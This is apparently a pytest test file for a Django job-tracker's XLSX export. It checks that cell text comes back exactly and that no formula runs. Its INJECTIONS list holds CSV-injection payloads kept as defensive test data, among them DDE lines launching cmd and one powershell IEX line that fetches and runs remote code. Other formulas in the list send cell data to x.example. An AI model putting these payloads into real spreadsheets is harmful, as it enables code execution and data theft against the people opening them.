"""Workbooks: what stands in a cell comes back exactly, and nothing in it runs."""

import io
import json
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from django.db.models import F
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape
from rest_framework.test import APIClient
from xlsxwriter import Workbook

from accounts.models import User
from dataio.cells import items_of, unguarded
from dataio.exporting import sheets, views
from dataio.exporting.sheets import MAX_CELL, cells_of
from dataio.resources import Column, Kind
from jobs.factories import JobFactory
from jobtracker.testing.answers import error_of

# What OWASP's page on CSV injection and others have found to run in some spreadsheet.
INJECTIONS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?leak="&A1&A2,"Click")',
    '=IMPORTXML(CONCAT("http://x.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=WEBSERVICE("http://x.example")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '";=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "'=1+1",
    "''=1+1",
    'DDE ("cmd";"/C calc";"x")',
    "http://x.example/",
    "mailto:a@b.example",
    "internal:Sheet1!A1",
    "{=1+1}",
    "0012",
    "1e5",
    "<r><t>x</t></r>",
    "<r></t></is></c><c><f>1+1</f></r>",
    "_x0041_",
    "a\x0bb\x1f\ufffe\uffff",
    " blanks \r\n",
)


def _workbook(rows: list[list[list[Any]]], columns: list[Column], parts: dict[str, int]) -> Any:
    file = io.BytesIO()
    with Workbook(file, {"constant_memory": True}) as book:
        sheet = sheets._Sheet(book, "rows", columns, parts)
        for number, row in enumerate(rows, start=1):
            sheet.write(number, row)
        sheet.finish(len(rows))
    file.seek(0)
    return openpyxl.load_workbook(file)["rows"]


def _text_of(cell: Any) -> str:
    """What the importer makes of a cell with a text."""
    return unguarded(unescape(cell.value))


def _written_and_read(texts: list[str]) -> list[str]:
    column = Column("text", Kind.TEXT, F("title"))
    cells = [cells_of(Kind.TEXT, text) for text in texts]
    width = max([len(found) for found in cells], default=1) or 1
    sheet = _workbook([[found] for found in cells], [column], {"text": width})
    read = []
    for number, found in enumerate(cells, start=2):
        row = [sheet.cell(number, place + 1) for place in range(len(found))]
        assert {cell.data_type for cell in row} <= {"s", "inlineStr"}
        assert not any(cell.hyperlink for cell in row)
        read.append("".join(map(_text_of, row)))
    return read


def test_no_injection_runs_and_each_comes_back() -> None:
    assert _written_and_read(list(INJECTIONS)) == list(INJECTIONS)
    for text in INJECTIONS:
        [cell] = cells_of(Kind.TEXT, text)
        assert not str(cell).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


@settings(max_examples=150, deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), min_size=1), max_size=5))
def test_any_text_comes_back(texts: list[str]) -> None:
    assert _written_and_read(texts) == texts


@pytest.mark.parametrize("text", ["x" * 50_000, "😀" * 50_000, "=" * MAX_CELL, "a" + "😀" * MAX_CELL, "é\r\n" * 30_000])
def test_what_is_longer_than_a_cell_goes_on_in_the_next_and_nothing_is_lost(text: str) -> None:
    parts = cells_of(Kind.TEXT, text)
    assert len(parts) > 1
    assert all(len(str(part).encode("utf-16-le")) // 2 <= MAX_CELL for part in parts)
    assert _written_and_read([text]) == [text]


@pytest.mark.parametrize(
    ("kind", "value", "cells"),
    [
        (Kind.TEXT, "", []),
        (Kind.TEXT, None, []),
        (Kind.TEXTS, [], []),
        (Kind.TEXTS, ["a;b", "c"], ['"a;b"; c']),
        (Kind.WHOLE_NUMBER, 999_999_999_999_999, [999_999_999_999_999]),
        (Kind.WHOLE_NUMBER, 10**15, [str(10**15)]),
        (Kind.AMOUNT, "99999999.99", [99999999.99]),
        (Kind.AMOUNT, "1234567890123456.7", ["1234567890123456.7"]),
        (Kind.DAY, "2026-11-23", [date(2026, 11, 23)]),
        (Kind.DAY, "1900-01-01", ["1900-01-01"]),
        (Kind.INSTANT, "2026-11-23T10:00:00.000001Z", ["2026-11-23T10:00:00.000001Z"]),
        (Kind.FLAG, False, [False]),
        (Kind.PARTS, [], []),
    ],
)
def test_values_are_what_a_sheet_can_hold_exactly(kind: Kind, value: Any, cells: list[Any]) -> None:
    assert cells_of(kind, value) == cells


def _sheet_of(api: APIClient, **parameters: Any) -> Any:
    answer = api.get("/api/v1/exports/jobs/", {"format": "xlsx", **parameters})
    assert answer.status_code == 200, answer.content
    return openpyxl.load_workbook(io.BytesIO(answer.getvalue()))["jobs"]


@pytest.mark.django_db
def test_a_workbook_has_what_json_has(api: APIClient, user: User) -> None:
    JobFactory.create(
        owner=user,
        title="=1+1",
        salary_min=Decimal("1234.50"),
        salary_max=Decimal("99999999.99"),
        salary_currency="EUR",
        salary_period="year",
        skills=["C++", "R; S"],
        posted_on=date(2026, 3, 9),
        notes="n" * 40_000,
        description="Line one\r\nline two",
    )
    [as_json] = json.loads(api.get("/api/v1/exports/jobs/").getvalue())
    sheet = _sheet_of(api)
    header, row = sheet.iter_rows()
    cells = {cell.value: row[place] for place, cell in enumerate(header)}

    assert list(cells) == [
        name for column in as_json for name in ([column, "notes (2)"] if column == "notes" else [column])
    ]
    assert all(cell.font.bold for cell in header)
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", f"A1:{sheet.cell(2, len(header)).coordinate}")
    assert _text_of(cells["title"]) == "=1+1"
    assert Decimal(repr(cells["salary_min"].value)) == Decimal(as_json["salary_min"])
    assert Decimal(repr(cells["salary_max"].value)) == Decimal(as_json["salary_max"])
    assert cells["posted_on"].value == datetime(2026, 3, 9)  # a sheet knows no time zones
    assert cells["posted_on"].number_format == "yyyy-mm-dd"
    assert items_of(_text_of(cells["skills"])) == as_json["skills"]
    assert _text_of(cells["notes"]) + _text_of(cells["notes (2)"]) == as_json["notes"]
    assert _text_of(cells["description"]) == as_json["description"]
    assert cells["is_archived"].value is False
    assert datetime.fromisoformat(cells["created_at"].value).tzinfo == UTC
    assert cells["id"].value == as_json["id"]


@pytest.mark.django_db
def test_without_rows_there_is_a_header(api: APIClient) -> None:
    sheet = _sheet_of(api, fields="title,id")
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["title", "id"]]


@pytest.mark.django_db
def test_a_filter_that_nothing_can_pass_leaves_the_header(api: APIClient) -> None:
    answer = api.get("/api/v1/exports/applications/", {"format": "xlsx", "fields": "id,job", "stage": "999999"})
    sheet = openpyxl.load_workbook(io.BytesIO(answer.getvalue()))["applications"]
    assert [[cell.value for cell in row] for row in sheet.iter_rows()] == [["id", "job"]]


@pytest.mark.django_db
def test_a_workbook_that_takes_long_is_a_runs(api: APIClient, user: User, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(views, "MAX_SHEET_ROWS", 1)
    JobFactory.create_batch(2, owner=user)
    answer = api.get("/api/v1/exports/jobs/", {"format": "xlsx"})
    assert (answer.status_code, error_of(answer)["code"]) == (409, "too_many_rows")
    assert "POST /api/v1/runs/" in error_of(answer)["message"]


@pytest.mark.django_db
def test_more_rows_than_a_sheet_has_are_refused(api: APIClient, user: User, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheets, "MAX_ROWS", 1)
    JobFactory.create_batch(2, owner=user)
    answer = api.get("/api/v1/exports/jobs/", {"format": "xlsx"})
    assert (answer.status_code, error_of(answer)["code"]) == (409, "too_many_rows")
